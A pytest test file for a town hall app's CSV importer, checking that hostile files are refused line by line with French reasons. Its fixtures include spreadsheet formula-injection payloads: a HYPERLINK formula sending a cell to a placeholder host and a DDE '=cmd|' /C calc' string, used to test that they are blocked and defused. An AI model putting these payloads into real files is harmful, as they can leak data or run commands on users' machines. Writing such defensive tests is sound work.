"""CSV imports fed hostile files: every line imported or refused with its line, column and a
French reason, whatever the encoding, NUL bytes, endless lines, open quotes or formulas.

The fuzzing part (hypothesis, derandomized: the same examples on every run, bounded in count)
mixes valid lines with hostile ones in every encoding a town hall's software saves, and checks
that nothing is lost silently: each valid line is in the directory as written, each hostile one
is in the reject file with its own line number, and the counts add up.
"""

from __future__ import annotations

import csv
import io
import itertools
import tracemalloc
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import select

from cti.db import Database
from screenpop.csv_rows import COLUMNS
from screenpop.csv_text import LINE_LIMIT
from screenpop.errors import CsvFileError
from screenpop.import_cases import import_file as import_cases
from screenpop.import_citizens import import_file
from screenpop.models import Citizen

HEADER = ";".join(COLUMNS)
# Names a town hall's file holds, every one outside ASCII and inside Windows-1252.
NAMES = ("Lefèvre", "Gaëlle", "Œuvray", "Françoise", "Müller", "Dàvila", "Noël")


def _rejects(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle, delimiter=";"))


def _refused(path: Path) -> list[tuple[str, str]]:
    return [(r["ligne"], r["colonne"]) for r in _rejects(path)]


def _stored(database: Database, prefix: str = "") -> dict[str, str]:
    with database.session() as session:
        rows = session.execute(
            select(Citizen.external_ref, Citizen.last_name).where(
                Citizen.external_ref.startswith(prefix)
            )
        )
        return {ref: name for ref, name in rows}


# -- one hostile kind at a time: what a technician meets --------------------------------------


def test_utf16_files_with_and_without_mark_are_read(database: Database, tmp_path: Path) -> None:
    text = HEADER + "\r\nU1;Mme;Lefèvre;Gaëlle;06 11 22 33 44;;;;;;\r\nU2;M.;Œuvray;Noël;;;;;;;\r\n"
    for n, encoding in enumerate(("utf-16", "utf-16-le", "utf-16-be")):
        source = tmp_path / f"unicode-{n}.csv"
        source.write_bytes(text.replace("U", f"U{n}-").encode(encoding))
        report = import_file(database, source, tmp_path / "r.csv", progress=False)
        assert (report.created, report.rejected, report.encoding) == (2, 0, "UTF-16")
    stored = _stored(database, "U")
    assert sorted(stored.values()) == ["Lefèvre"] * 3 + ["Œuvray"] * 3


def test_an_excel_file_in_windows_1252_is_read_as_such(database: Database, tmp_path: Path) -> None:
    source = tmp_path / "excel.csv"
    source.write_bytes(
        (HEADER + "\r\nW1;Mme;Lefèvre;Françoise;;;;;;;\r\nW2;M.;Œuvray;Noël;;;;;;;\r\n").encode(
            "cp1252"
        )
    )
    report = import_file(database, source, tmp_path / "r.csv", progress=False)
    assert (report.created, report.rejected, report.encoding) == (2, 0, "Windows-1252")
    assert _stored(database) == {"W1": "Lefèvre", "W2": "Œuvray"}


def test_lines_of_another_encoding_or_with_nul_bytes_are_refused_naming_the_column(
    database: Database, tmp_path: Path
) -> None:
    source = tmp_path / "mixed.csv"
    source.write_bytes(
        b"\n".join(
            [
                HEADER.encode(),
                "M1;Mme;Lefèvre;Alice;;;;;;;".encode(),
                "M2;Mme;Lefèvre;Alice;;;;;;;".encode("latin-1"),  # pasted from an old file
                b"M3;M.;Martin;Bob;;;12 rue\x00;;;;",
                b"M4;M.;Petit;Carl;;;;;;;",
            ]
        )
    )
    rejects = tmp_path / "r.csv"
    report = import_file(database, source, rejects, progress=False)
    assert (report.lines, report.created, report.rejected, report.mixed) == (4, 2, 2, True)
    refused = _rejects(rejects)
    assert [(r["ligne"], r["colonne"]) for r in refused] == [("3", "last_name"), ("4", "address")]
    assert refused[0]["motif"].startswith("octets illisibles en UTF-8")
    assert refused[1]["motif"] == "octet nul : ce n'est pas du texte"
    assert set(_stored(database)) == {"M1", "M4"}


def test_a_long_first_line_full_of_commas_does_not_hide_the_separator(
    database: Database, tmp_path: Path
) -> None:
    # A sample of the first 8 kB ends inside this line: csv.Sniffer then guessed ",".
    source = tmp_path / "long.csv"
    source.write_text(
        "\n".join(
            [
                HEADER,
                "L1;Mme;Durand;Alice;;;" + "rue, " * 2000 + ";;;;",
                "L2;M.;Martin;Bob;;;;;;;",
            ]
        ),
        encoding="utf-8",
    )
    rejects = tmp_path / "r.csv"
    report = import_file(database, source, rejects, progress=False)
    assert (report.created, report.rejected) == (1, 1)
    assert _refused(rejects) == [("2", "address")]


def test_a_line_of_megabytes_is_refused_in_bounded_memory_and_the_next_ones_kept(
    database: Database, tmp_path: Path
) -> None:
    source = tmp_path / "huge.csv"
    size = 40 * 1024 * 1024
    with source.open("wb") as out:
        out.write(f"{HEADER}\nH1;Mme;Durand;Alice;;;;;;;\nH2;M.;".encode())
        chunk = b"x" * (1024 * 1024)
        for _ in range(size // len(chunk)):
            out.write(chunk)
        out.write(b";;;;;;;;\nH3;M.;Martin;Bob;;;;;;;\n")
    rejects = tmp_path / "r.csv"
    tracemalloc.start()
    try:
        report = import_file(database, source, rejects, progress=False)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 8 * 1024 * 1024  # a 40 MB line never sits in memory
    assert (report.lines, report.created, report.rejected) == (3, 2, 1)
    ((line, column, reason),) = [(r["ligne"], r["colonne"], r["motif"]) for r in _rejects(rejects)]
    assert (line, column) == ("3", "(ligne)")
    assert reason == f"ligne de {size + 14} caractères, {LINE_LIMIT} au plus : ignorée"
    assert set(_stored(database)) == {"H1", "H3"}


def test_a_quote_left_open_refuses_its_line_only(database: Database, tmp_path: Path) -> None:
    source = tmp_path / "quote.csv"
    source.write_text(
        "\n".join(
            [
                HEADER,
                'Q1;Mme;Durand;Alice;;;"12 rue de la Paix;45000;Blois;;',
                "Q2;M.;Martin;Bob;;;;;;;",
                'Q3;M.;Petit;Carl;;;"3 place"" du ""Marché";;;;',  # quotes doubled: fine
            ]
        ),
        encoding="utf-8",
    )
    rejects = tmp_path / "r.csv"
    report = import_file(database, source, rejects, progress=False)
    assert (report.lines, report.created, report.rejected) == (3, 2, 1)
    ((refused,),) = [_rejects(rejects)]
    assert (refused["ligne"], refused["colonne"]) == ("2", "address")
    assert "guillemet ouvert et jamais fermé" in refused["motif"]
    assert refused["last_name"] == "Durand"
    assert _stored(database)["Q2"] == "Martin"


def test_formulas_are_refused_and_never_written_runnable_in_the_reject_file(
    database: Database, tmp_path: Path
) -> None:
    source = tmp_path / "formulas.csv"
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";", lineterminator="\n")
    writer.writerow(COLUMNS)
    writer.writerow(
        [
            "F1",
            "Mme",
            '=HYPERLINK("http://x.invalid/?"&A1;"Dupont")',
            "",
            "",
            "",
            "",
            "",
            "",
            "",
            "",
        ]
    )
    writer.writerow(["F2", "M.", "Martin", "@SUM(A1:A9)", "", "", "", "", "", "", ""])
    writer.writerow(["F3", "M.", "Petit", "Carl", "+33 6 11 22 33 44", "", "-", "", "", "", ""])
    writer.writerow(["F4", "M.", "Roux", "Eric", "+33 6 11 22 33 45", "", "", "", "", "", ""])
    source.write_text(buffer.getvalue(), encoding="utf-8")
    rejects = tmp_path / "r.csv"
    report = import_file(database, source, rejects, progress=False)
    assert (report.created, report.rejected) == (1, 3)
    refused = _rejects(rejects)
    assert [(r["ligne"], r["colonne"]) for r in refused] == [
        ("2", "last_name"),
        ("3", "first_name"),
        ("4", "address"),
    ]
    assert refused[0]["motif"] == "commence par « = » comme une formule de tableur"
    # The technician opens the reject file in a spreadsheet: what was refused shows, never runs.
    assert refused[0]["last_name"].startswith("'=HYPERLINK(")
    assert refused[1]["first_name"] == "'@SUM(A1:A9)"
    assert _stored(database) == {"F4": "Roux"}


def test_cases_files_get_the_same_treatment(database: Database, tmp_path: Path) -> None:
    citizens = tmp_path / "citizens.csv"
    citizens.write_text(HEADER + "\nC1;Mme;Durand;Alice;;;;;;;\n", encoding="utf-8")
    import_file(database, citizens, tmp_path / "r0.csv", progress=False)
    cases = tmp_path / "cases.csv"
    cases.write_bytes(
        "\r\n".join(
            [
                "reference;citizen_external_ref;service;subject;status;opened_at",
                "EC-1;C1;etat-civil;Acte de naissance, copie intégrale;ouvert;2026-01-05",
                "EC-2;C1;etat-civil;=cmd|' /C calc'!A0;ouvert;2026-01-05",
                "EC-3;C1;etat-civil;Mariage\u202e;ouvert;2026-01-05",
            ]
        ).encode("utf-16")
    )
    rejects = tmp_path / "r.csv"
    report = import_cases(database, cases, rejects, progress=False)
    assert (report.created, report.rejected, report.encoding) == (1, 2, "UTF-16")
    assert _refused(rejects) == [("3", "subject"), ("4", "subject")]


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"", "colonnes manquantes : external_ref, last_name, phone"),
        (b"PK\x03\x04\x14\x00\x06\x00\x08\x00", "c'est un classeur Excel .*, pas un fichier CSV"),
        (b"\x00\x01\x02\x03;\x00\x00\x00;\xff\xfe\n", "première ligne illisible"),
        (("x" * (LINE_LIMIT + 10)).encode(), "première ligne de 65546 caractères"),
        ((HEADER + ";last_name\n").encode(), "colonnes en double : last_name"),
    ],
)
def test_a_file_that_is_no_directory_is_refused_whole_with_why(
    database: Database, tmp_path: Path, content: bytes, reason: str
) -> None:
    source = tmp_path / "not.csv"
    source.write_bytes(content)
    with pytest.raises(CsvFileError, match=reason):
        import_file(database, source, tmp_path / "r.csv", progress=False)


# -- fuzzing: hostile lines among valid ones, in every encoding -------------------------------

KINDS = ("valid", "valid", "valid", "nul", "formula", "extra", "quote", "long", "blank", "foreign")
ENCODINGS = ("utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "cp1252")
# The column each hostile kind is refused at (None: not a line, nothing to say).
EXPECTED_COLUMN = {
    "nul": "last_name",
    "formula": "last_name",
    "extra": "(ligne)",
    "quote": "address",
    "long": "(ligne)",
    "foreign": "last_name",
    "blank": None,
}


@dataclass(frozen=True)
class Line:
    kind: str
    name: str
    junk: bytes  # bytes that are not text, for the "junk" lines


def _text_line(kind: str, ref: str, name: str, sep: str) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=sep, lineterminator="")
    fields = [ref, "Mme", name, "Alice", "", "", "", "", "", "", ""]
    if kind == "nul":
        fields[2] = name + "\x00"
    elif kind == "formula":
        fields[2] = "=" + name
    elif kind == "extra":
        fields.append("en trop")
    elif kind == "quote":
        return sep.join(fields[:6]) + sep + '"12 rue' + sep * 4
    elif kind == "long":
        return sep.join(fields[:6]) + sep + "x" * (LINE_LIMIT + 5) + sep * 4
    elif kind == "blank":
        return ""
    writer.writerow(fields)
    return buffer.getvalue()


_examples = itertools.count()


@pytest.fixture(scope="module")
def shared_database(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Database]:
    """One SQLite file for every example (each example's references have their own prefix)."""
    db = Database(f"sqlite:///{tmp_path_factory.mktemp('fuzz') / 'cti.db'}")
    db.migrate()
    yield db
    db.close()


@settings(
    max_examples=60,
    derandomize=True,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    lines=st.lists(
        st.builds(
            Line,
            kind=st.sampled_from(KINDS),
            name=st.sampled_from(NAMES),
            junk=st.binary(min_size=1, max_size=40).filter(lambda b: not set(b) & set(b"\r\n")),
        ),
        min_size=1,
        max_size=12,
    ),
    encoding=st.sampled_from(ENCODINGS),
    sep=st.sampled_from((";", ",")),
    newline=st.sampled_from(("\n", "\r\n")),
    junk_at=st.integers(min_value=-1, max_value=12),
)
def test_every_line_of_a_hostile_file_is_imported_or_refused_with_its_line(
    shared_database: Database,
    tmp_path: Path,
    lines: list[Line],
    encoding: str,
    sep: str,
    newline: str,
    junk_at: int,
) -> None:
    prefix = f"X{next(_examples)}-"
    lines = [Line("valid", NAMES[0], b""), *lines]  # a file always has a name beyond ASCII
    eight_bit = not encoding.startswith("utf-16")
    codec = {"utf-8-sig": "utf-8", "utf-16": "utf-16-le"}.get(encoding, encoding)
    other = "cp1252" if codec == "utf-8" else "utf-8"  # the foreign lines' encoding
    body: list[bytes] = []
    for n, line in enumerate(lines):
        text = _text_line(line.kind, f"{prefix}{n}", line.name, sep)
        foreign = line.kind == "foreign" and eight_bit
        body.append(text.encode(other if foreign else codec))
    nl = newline.encode(codec)
    junk_line = None
    if eight_bit and 0 <= junk_at < len(body):
        # A line of a binary file: never text, in any encoding.
        body.insert(junk_at, b"\xff\x00" + b"".join(line.junk for line in lines))
        junk_line = junk_at + 2
    mark = {"utf-8-sig": b"\xef\xbb\xbf", "utf-16": b"\xff\xfe"}.get(encoding, b"")
    source = tmp_path / f"{prefix}.csv"
    source.write_bytes(mark + nl.join([sep.join(COLUMNS).encode(codec), *body]) + nl)
    rejects = tmp_path / f"{prefix}rejects.csv"
    # Which 8-bit encoding the file is read in: UTF-8 unless more lines break it than hold it.
    foreign = sum(line.kind == "foreign" for line in lines) if eight_bit else 0
    native = sum(line.kind not in ("foreign", "blank") for line in lines)
    not_utf8 = (foreign if codec == "utf-8" else native) + (junk_line is not None)
    as_utf8 = foreign if codec != "utf-8" else native
    native_wins = encoding != "cp1252" or not_utf8 > as_utf8
    if encoding == "utf-8":
        native_wins = not_utf8 <= as_utf8

    report = import_file(shared_database, source, rejects, progress=False)

    refused = {int(r["ligne"]): r for r in _rejects(rejects)}
    stored = _stored(shared_database, prefix)
    for n, line in enumerate(lines):
        number = n + 2 + (junk_line is not None and n + 2 >= junk_line)
        ref = f"{prefix}{n}"
        kind = line.kind
        if kind == "foreign" and not eight_bit:
            kind = "valid"  # the same text in UTF-16: nothing foreign about it
        if kind != "blank" and (kind == "foreign") == native_wins:
            # A line in the encoding the file was not read in.
            kind = kind if kind in ("long", "quote", "extra") else "foreign"
        elif kind == "foreign":
            kind = "valid"
        if kind == "valid":
            assert stored.get(ref) == line.name, (n, refused.get(number))
            assert number not in refused
        elif kind == "blank":
            assert number not in refused
        else:
            assert ref not in stored
            assert refused[number]["colonne"] == EXPECTED_COLUMN[kind], refused[number]
            assert refused[number]["motif"]
    if junk_line is not None:
        assert refused[junk_line]["colonne"] == "external_ref"
    # Nothing lost silently: every line read is either in the directory or in the reject file.
    assert report.created + report.rejected == report.lines
    assert report.lines == sum(line.kind != "blank" for line in lines) + (junk_line is not None)
